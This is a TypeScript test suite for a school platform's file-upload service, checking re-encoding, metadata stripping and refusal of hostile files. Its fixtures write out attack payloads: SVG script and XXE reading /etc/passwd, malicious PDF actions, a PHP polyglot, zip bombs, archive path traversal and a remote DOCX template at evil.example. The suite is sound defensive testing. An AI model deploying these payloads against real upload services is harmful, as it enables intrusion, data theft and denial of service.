import { randomBytes } from 'node:crypto';
import { readdir, rm, utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { setImmediate } from 'node:timers/promises';
import { crc32, deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Attachment } from '@encrier/contract/kernel/attachment';
import { withTenant, readTenant } from '#kernel/db/tenant.ts';
import { mintSchool, type TestAccount, type TestSchool } from '#kernel/test/school.ts';
import { type TestServer, testServer } from '#kernel/test/server.ts';
import { storeKey } from '../stores/store-key.ts';
import { reencodeImage } from './images.ts';
import { inspectUpload } from './inspect.ts';
import { FileRefused } from './kinds.ts';

let server: TestServer;
let school: TestSchool;
beforeAll(async () => {
  server = await testServer({ config: { fileQuota: { school: 60_000_000, account: 40_000_000 } } });
  school = await mintSchool(server);
});
afterAll(() => server.stop());

type Answer = { status: number; body: Attachment & { code: string } };
async function send(
  name: string,
  bytes: Buffer | string,
  options: { as?: TestAccount; alt?: string; mime?: string; key?: string } = {},
): Promise<Answer> {
  const form = new FormData();
  if (options.alt !== undefined) form.set('alt', options.alt);
  form.set(
    'file',
    new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], {
      type: options.mime ?? 'application/octet-stream',
    }),
    name,
  );
  const { token } = options.as ?? school.accounts.prof;
  const response = await fetch(`${server.base}/api/${school.schoolId}/files`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, ...(options.key && { 'idempotency-key': options.key }) },
    body: form,
  });
  return { status: response.status, body: (await response.json()) as Answer['body'] };
}
/** Folder of this server's running uploads. */
const waiting = (): string => join(server.kernel.config.dataDir, 'uploads');
const rows = () =>
  readTenant(server.kernel.pool, school.schoolId, (db) => db.selectFrom('files').selectAll().execute());
const picture = (width = 900, height = 600) => sharp({ create: { width, height, channels: 3, background: '#446688' } });

/** A zip of stored or deflated entries, whose declared sizes may be wrong. */
function zip(entries: readonly { name: string; data: Buffer; method?: 0 | 8; mode?: number }[]): Buffer {
  const parts: Buffer[] = [];
  const central: Buffer[] = [];
  let at = 0;
  for (const { name, data, method = 8, mode = 0o100644 } of entries) {
    const packed = method === 8 ? deflateRawSync(data) : data;
    const head = Buffer.alloc(30);
    const entry = Buffer.alloc(46);
    head.writeUInt32LE(0x04034b50, 0);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE((3 << 8) | 20, 4);
    for (const [target, from] of [
      [head, 4],
      [entry, 6],
    ] as const) {
      target.writeUInt16LE(20, from);
      target.writeUInt16LE(method, from + 4);
      target.writeUInt32LE(crc32(data), from + 10);
      target.writeUInt32LE(packed.length, from + 14);
      target.writeUInt32LE(data.length, from + 18);
      target.writeUInt16LE(Buffer.byteLength(name), from + 22);
    }
    entry.writeUInt32LE((mode << 16) >>> 0, 38);
    entry.writeUInt32LE(at, 42);
    parts.push(head, Buffer.from(name), packed);
    central.push(entry, Buffer.from(name));
    at += 30 + Buffer.byteLength(name) + packed.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...parts, directory, end]);
}
const types =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const docx = (more: Parameters<typeof zip>[0] = []): Buffer =>
  zip([
    { name: '[Content_Types].xml', data: Buffer.from(types) },
    { name: '_rels/.rels', data: Buffer.from('<Relationships/>') },
    { name: 'word/document.xml', data: Buffer.from('<w:document/>') },
    ...more,
  ]);
const pdf = (catalog = ''): string =>
  `%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\nxref\n0 4\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n9\n%%EOF\n`;

describe('pictures', () => {
  it('are encoded again, in several widths, without camera metadata (SEC-FIL-05)', async () => {
    const bytes = await picture()
      .withExif({ IFD0: { Artist: 'Samira Photographe' }, IFD3: { GPSLatitude: '33/1 35/1 0/1' } })
      .jpeg()
      .toBuffer();
    expect(bytes.includes('Samira Photographe')).toBe(true);
    const { status, body } = await send('IMG_2024.JPG', bytes, { alt: ' Une cour ' });
    expect(status).toBe(200);
    expect(body).toMatchObject({
      type: 'image',
      mime: 'image/webp',
      name: 'IMG_2024.webp',
      width: 900,
      height: 600,
      alt: 'Une cour',
      fichier: `${body.id}.webp`,
    });
    const row = (await rows()).find(({ id }) => id === body.id)!;
    expect(row.variants).toEqual(['96', '320', '800']);
    for (const variant of [undefined, ...row.variants]) {
      const stored = await buffer(
        (await server.kernel.files.get(storeKey(school.schoolId, row.sha256, variant))).stream,
      );
      expect(stored.includes('Samira')).toBe(false);
      expect((await sharp(stored).metadata()).exif).toBeUndefined();
    }
  });

  it('lose scripts when they are vectors (SEC-FIL-04)', async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="alert(1)"><script>alert(2)</script><rect width="40" height="40" fill="red"/></svg>';
    const { status, body } = await send('logo.svg', svg, { as: school.accounts.admin });
    if (status === 200) {
      expect(body.mime).toBe('image/webp');
      const { sha256 } = (await rows()).find(({ id }) => id === body.id)!;
      expect(
        (await buffer((await server.kernel.files.get(storeKey(school.schoolId, sha256))).stream)).includes('alert'),
      ).toBe(false);
    } else expect(body.code).toBe('files.type_refused');
    for (const hostile of [
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&x;</text></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="http://127.0.0.1:1/x.png"/></svg>',
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
    ]) {
      const answer = await send('x.svg', hostile, { as: school.accounts.admin });
      expect(answer.status === 200 ? answer.body.mime : answer.body.code).toMatch(
        /^image\/webp$|^files\.(type_refused|broken)$/,
      );
    }
  });

  it('as vectors are accepted only from users who set the logo (SEC-FIL-04)', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><rect width="40" height="40"/></svg>';
    expect((await send('logo.svg', svg, { as: school.accounts.admin })).body).toMatchObject({ mime: 'image/webp' });
    for (const as of [school.accounts.prof, school.accounts.parent, school.accounts.eleve])
      expect(await send('logo.svg', svg, { as })).toMatchObject({ status: 400, body: { code: 'files.svg_refused' } });
  });

  it('that multiply by reference, or filter, are refused before rendering', async () => {
    const vector = (inside: string): Buffer =>
      Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="99" height="99">${inside}</svg>`);
    const chain = Array.from(
      { length: 12 },
      (_, i) => `<g id="g${i + 1}">${`<use href="#g${i}"/>`.repeat(10)}</g>`,
    ).join('');
    for (const [inside, detail] of [
      [`<circle id="g0" r="3"/>${chain}`, 'svg_references'],
      ['<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>', 'svg_cycle'],
      [
        `<pattern id="p0" width="1" height="1"><rect width="9" height="9"/></pattern>${Array.from({ length: 6 }, (_, i) => `<pattern id="p${i + 1}">${`<rect fill="url(#p${i})"/>`.repeat(9)}</pattern>`).join('')}`,
        'svg_references',
      ],
      ['<filter id="f"><feTurbulence numOctaves="9"/></filter>', 'svg_filter'],
      ['<rect style="filter:blur(90px)" width="9" height="9"/>', 'svg_filter'],
    ] as const)
      await expect(inspectUpload({ name: 'x.svg', buffer: vector(inside), vector: true })).rejects.toMatchObject({
        detail,
      });
    await expect(
      inspectUpload({ name: 'x.svg', buffer: vector('<!---->'.repeat(20_000)), vector: true }),
    ).rejects.toMatchObject({ code: 'files.too_large' });
    const logo = `<linearGradient id="c"><stop/><stop/></linearGradient>${'<path fill="url(#c)" d="M0 0h9v9z"/>'.repeat(900)}<g id="leaf"><path d="M0 0h1"/></g>${'<use href="#leaf"/>'.repeat(40)}`;
    expect(await inspectUpload({ name: 'logo.svg', buffer: vector(logo), vector: true })).toMatchObject({ ext: 'svg' });
  });

  it('of a hundred megapixels, or broken, are refused quickly', async () => {
    const huge = await sharp({ create: { width: 10_000, height: 10_000, channels: 3, background: '#fff' } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    const start = Date.now();
    expect(await send('huge.png', huge)).toMatchObject({ status: 400, body: { code: 'files.too_many_pixels' } });
    expect(Date.now() - start).toBeLessThan(10_000);
    const whole = await picture().png().toBuffer();
    expect((await send('cut.png', whole.subarray(0, whole.length / 2))).body.code).toBe('files.broken');
  }, 60_000);

  it('in AVIF are limited by the memory of their decoder, and the refusal beyond explains it', async () => {
    const avif = (height: number) => picture(4000, height).avif({ effort: 0 }).toBuffer();
    expect(await send('large.avif', await avif(4000))).toMatchObject({ status: 200, body: { width: 2560 } });
    expect(await send('larger.avif', await avif(4050))).toMatchObject({
      status: 400,
      body: { code: 'files.too_many_pixels' },
    });
  }, 60_000);

  it('that are also another format keep only their pixels (SEC-FIL-02)', async () => {
    const tail = Buffer.from('<script>alert(1)</script><?php system("id") ?>');
    const png = Buffer.concat([await picture(60, 60).png().toBuffer(), tail, zip([{ name: 'x.html', data: tail }])]);
    const { status, body } = await send('photo.png', png);
    expect(status).toBe(200);
    const { sha256 } = (await rows()).find(({ id }) => id === body.id)!;
    const stored = await buffer((await server.kernel.files.get(storeKey(school.schoolId, sha256))).stream);
    expect(/script|php|PK\x03/.test(stored.toString('latin1'))).toBe(false);
  });
});

describe('refused uploads (SEC-FIL-02, SEC-FIL-07)', () => {
  it.each<[string, string, () => Buffer | string | Promise<Buffer | string>, string]>([
    ['a page called a picture', 'x.jpg', () => '<html><script>alert(1)</script></html>', 'files.type_refused'],
    ['a script in a GIF', 'x.gif', () => 'GIF89a/*<script>*/=1;alert(1)', 'files.broken'],
    ['a program', 'setup.exe', () => Buffer.from('MZ\u0090'), 'files.type_refused'],
    ['a double extension', 'photo.php.png', () => picture(9, 9).png().toBuffer(), 'files.type_refused'],
    ['no extension', 'photo', () => picture(9, 9).png().toBuffer(), 'files.type_refused'],
    ['a page called a text', 'x.html', () => '<p>x</p>', 'files.type_refused'],
    ['a PDF that is not one', 'x.pdf', () => 'not a pdf at all', 'files.'],
    [
      'a PDF with JavaScript',
      'x.pdf',
      () => pdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
      'files.type_refused',
    ],
    [
      'a PDF that starts a program',
      'x.pdf',
      () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'),
      'files.type_refused',
    ],
    [
      'a PDF that carries a file',
      'x.pdf',
      () => pdf('/Annots [<< /Subtype /FileAttachment /FS << /EF 9 0 R >> >>]'),
      'files.type_refused',
    ],
    [
      'a PDF that opens another machine’s file',
      'x.pdf',
      () => pdf('/A << /S /GoToR /F (\\\\\\\\host\\\\share) >>'),
      'files.type_refused',
    ],
    [
      'a PDF whose link runs',
      'x.pdf',
      () => pdf('/A << /S /URI /URI (java\\163cript:alert\\(1\\)) >>'),
      'files.type_refused',
    ],
    [
      'a PDF whose link runs, in hexadecimal',
      'x.pdf',
      () => pdf(`/A << /S /URI /URI <${Buffer.from('JavaScript:x').toString('hex')}> >>`),
      'files.type_refused',
    ],
    [
      'a PDF whose link leaves for another machine',
      'x.pdf',
      () => pdf('/A << /S /URI /URI (file://host/share/x) >>'),
      'files.type_refused',
    ],
    [
      'a PDF whose names are spelled in numbers',
      'x.pdf',
      () => pdf('/A << /#53 /#4a#61vaScript >>'),
      'files.type_refused',
    ],
    [
      'a zip bomb in a document',
      'x.docx',
      () => docx([{ name: 'word/media/bomb.bin', data: Buffer.alloc(60_000_000) }]),
      'files.archive_refused',
    ],
    [
      'a path out of the archive',
      'x.docx',
      () => docx([{ name: '../../etc/cron.d/x', data: Buffer.from('x') }]),
      'files.archive_refused',
    ],
    [
      'a link in the archive',
      'x.docx',
      () => docx([{ name: 'word/link', data: Buffer.from('/etc/passwd'), mode: 0o120777 }]),
      'files.archive_refused',
    ],
    [
      'a thousand and one entries',
      'x.docx',
      () => docx(Array.from({ length: 1001 }, (_, i) => ({ name: `word/${i}.xml`, data: Buffer.from('x') }))),
      'files.archive_refused',
    ],
    [
      'a template fetched from elsewhere, behind a sign that ends no tag',
      'x.docx',
      () =>
        docx([
          {
            name: 'word/_rels/document.xml.rels',
            data: Buffer.from(
              '<Relationships><Relationship Id=">" TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm"/></Relationships>',
            ),
          },
        ]),
      'files.archive_refused',
    ],
    [
      'a template fetched from elsewhere, spelled in numbers',
      'x.docx',
      () =>
        docx([
          {
            name: 'word/_rels/document.xml.rels',
            data: Buffer.from(
              '<Relationships><Relationship TargetMode="&#69;xternal" Type="http://x/attached&#x54;emplate" Target="http://evil.example/x.dotm"/></Relationships>',
            ),
          },
        ]),
      'files.archive_refused',
    ],
    ['a macro', 'x.docx', () => docx([{ name: 'word/vbaProject.bin', data: Buffer.from('x') }]), 'files.'],
    ['a zip called a document', 'x.docx', () => zip([{ name: 'readme.txt', data: Buffer.from('x') }]), 'files.'],
    ['a program called a film', 'x.mp4', () => Buffer.concat([Buffer.from('MZ'), randomBytes(300)]), 'files.'],
    ['bytes called a text', 'x.txt', () => Buffer.concat([Buffer.from([0, 1, 2, 3, 0]), randomBytes(3000)]), 'files.'],
    ['nothing', 'x.txt', () => '', 'files.broken'],
  ])('%s', async (_, name, make, code) => {
    const before = (await rows()).length;
    const { status, body } = await send(name, await make());
    expect(status).toBe(400);
    expect(body.code.startsWith(code), body.code).toBe(true);
    expect((await rows()).length).toBe(before);
  });

  it.each<[string, string, () => Buffer]>([
    ['comments after a picture', 'x.svg', () => Buffer.from(`<svg></svg>${'<!---->'.repeat(60)}x`)],
    [
      'a picture of document types',
      'x.svg',
      () => Buffer.from(`<svg>${'<!DOCTYPE'.repeat(19_000)}${'x'.repeat(700_000)}</svg>`),
    ],
    ['an address of blanks', 'x.svg', () => Buffer.from(`<svg style="fill:url(${' '.repeat(300_000)})"></svg>`)],
    [
      'a filter of blanks',
      'x.pdf',
      () => Buffer.from(`%PDF-1.4\n1 0 obj << /First 1 /N 1 /Filter${' '.repeat(300_000)}x >>stream\nendstream\n%%EOF`),
    ],
    [
      'relationships without an end',
      'x.docx',
      () =>
        docx([
          {
            name: 'word/_rels/document.xml.rels',
            method: 0,
            data: Buffer.from(`${'<Relationship '.repeat(200_000)}<`),
          },
          { name: 'word/vbaProject.bin', data: Buffer.from('x') },
        ]),
    ],
  ])('%s, before any expensive work (SEC-INJ-03)', async (_, name, make) => {
    const bytes = make();
    const from = performance.now();
    await expect(inspectUpload({ name, buffer: bytes, vector: true })).rejects.toBeInstanceOf(FileRefused);
    expect(performance.now() - from).toBeLessThan(10_000);
  });

  it('a type that browsers execute, whatever the content', async () => {
    expect((await send('x.txt', 'hello', { mime: 'text/html' })).body.code).toBe('files.type_refused');
  });

  it('a file too large gets 413, and nothing of it stays on disk (SEC-FIL-06)', async () => {
    expect(await send('long.txt', Buffer.alloc(8_400_000, 97))).toMatchObject({
      status: 413,
      body: { code: 'files.too_large' },
    });
    expect(await readdir(waiting())).toEqual([]);
  });

  it('files left by a killed server are deleted after an hour, and no younger ones (SEC-FIL-06)', async () => {
    const [old, young] = [join(waiting(), 'left'), join(waiting(), 'under-way')];
    await writeFile(old, 'x');
    await utimes(old, new Date(Date.now() - 3_700_000), new Date(Date.now() - 3_700_000));
    await writeFile(young, 'x');
    await server.runSchedule('files.leftovers');
    expect(await readdir(waiting())).toEqual(['under-way']);
    await rm(young);
  });

  it('two files, no file, another form encoding', async () => {
    const form = new FormData();
    form.set('other', new Blob(['x']), 'x.txt');
    const headers = { authorization: `Bearer ${school.accounts.prof.token}` };
    const address = `${server.base}/api/${school.schoolId}/files`;
    expect((await fetch(address, { method: 'POST', headers, body: form })).status).toBe(400);
    expect((await fetch(address, { method: 'POST', headers, body: new FormData() })).status).toBe(400);
    expect(
      (
        await fetch(address, {
          method: 'POST',
          headers: { ...headers, 'content-type': 'application/json' },
          body: '{}',
        })
      ).status,
    ).toBe(400);
    expect((await fetch(address, { method: 'POST', body: form })).status).toBe(401);
  });
});

it('no mutation of a good file causes more than a refusal (REL-FUZ-03)', async () => {
  const good: [string, Buffer][] = [
    ['a.png', await picture(40, 30).png().toBuffer()],
    ['a.jpg', await picture(40, 30).jpeg().toBuffer()],
    ['a.webp', await picture(40, 30).webp().toBuffer()],
    ['a.pdf', Buffer.from(pdf())],
    ['a.docx', docx()],
    ['a.txt', Buffer.from('Une note, avec des accents é à ç')],
  ];
  const flips = fc.array(fc.tuple(fc.nat(), fc.nat({ max: 255 })), { minLength: 1, maxLength: 12 });
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...good), flips, fc.option(fc.nat()), async ([name, bytes], changes, cut) => {
      const mutated = Buffer.from(bytes);
      for (const [at, value] of changes) mutated[at % mutated.length] = value;
      const buffer = cut === null ? mutated : mutated.subarray(0, cut % mutated.length);
      try {
        const seen = await inspectUpload({ name, buffer });
        if (seen.type === 'image') await reencodeImage(buffer);
      } catch (error) {
        if (!(error instanceof FileRefused)) throw error;
      }
    }),
    { numRuns: 300 },
  );
}, 60_000);

describe('accepted uploads', () => {
  it('documents, texts and PDF files unchanged', async () => {
    expect((await send('Circulaire été.pdf', pdf())).body).toMatchObject({
      type: 'pdf',
      mime: 'application/pdf',
      pages: 1,
      name: 'Circulaire été.pdf',
    });
    expect(
      (
        await send(
          'liens.pdf',
          pdf('/A << /S /URI /URI (https://ecole.example/a) >> /B << /URI (mailto:a@b.example) >>'),
        )
      ).body.pages,
    ).toBe(1);
    expect((await send('note.txt', 'Une note, avec des accents é à ç')).body).toMatchObject({
      type: 'text',
      mime: expect.stringMatching(/^text\/plain; charset=utf-8$/i),
    });
    expect((await send('devoir.docx', docx())).body).toMatchObject({ type: 'office', size: docx().length });
  });

  it('a document of several megabytes, read slice by slice, without a listener left for each slice', async () => {
    const warnings: Error[] = [];
    const onWarning = (warning: Error) => void warnings.push(warning);
    process.on('warning', onWarning);
    await inspectUpload({
      name: 'x.docx',
      buffer: docx([{ name: 'word/media/a.jpeg', data: randomBytes(6_000_000) }]),
    });
    await setImmediate();
    process.off('warning', onWarning);
    expect(warnings).toEqual([]);
  });

  it('names without paths and without direction characters', async () => {
    const { body } = await send('rapport\u202Etxt.txt', 'texte');
    expect(body.name).toBe('rapporttxt.txt');
    const path = await send('../../../etc/passwd.txt', 'texte');
    expect(path.status === 200 ? path.body.name : path.body.code).toMatch(/^passwd\.txt$|^files\.type_refused$/);
  });

  it('names of two hundred characters at most', async () => {
    const named = (length: number, ext: string): string => `${'n'.repeat(length - ext.length - 1)}.${ext}`;
    for (const length of [201, 255, 256])
      expect(await send(named(length, 'txt'), 'texte')).toMatchObject({
        status: 400,
        body: { code: 'files.type_refused' },
      });
    expect((await send(named(200, 'txt'), 'texte')).body.name).toBe(named(200, 'txt'));
    // A re-encoded image gets another extension, and its name still fits.
    const { status, body } = await send(named(200, 'png'), await picture(20, 20).png().toBuffer());
    expect([status, body.name]).toEqual([200, `${'n'.repeat(195)}.webp`]);
  });

  it('once per key; a key reused for another file is refused (REL-FLT-09)', async () => {
    const key = `k-${randomBytes(8).toString('hex')}`;
    const first = await send('a.txt', 'un', { key });
    expect((await send('a.txt', 'un', { key })).body.id).toBe(first.body.id);
    expect(await send('a.txt', 'deux', { key })).toMatchObject({ status: 422 });
  });

  it('until the quota is reached, with 413', async () => {
    await withTenant(server.kernel.pool, school.schoolId, {}, (db) =>
      db
        .updateTable('files')
        .set({ size: 41_000_000 })
        .where(
          'id',
          '=',
          db.selectFrom('files').select('id').where('created_by', '=', school.accounts.prof.id).limit(1),
        )
        .execute(),
    );
    expect(await send('b.txt', 'encore')).toMatchObject({ status: 413, body: { code: 'files.quota' } });
    expect((await send('b.txt', 'encore', { as: school.accounts.parent })).status).toBe(200);
  });
});
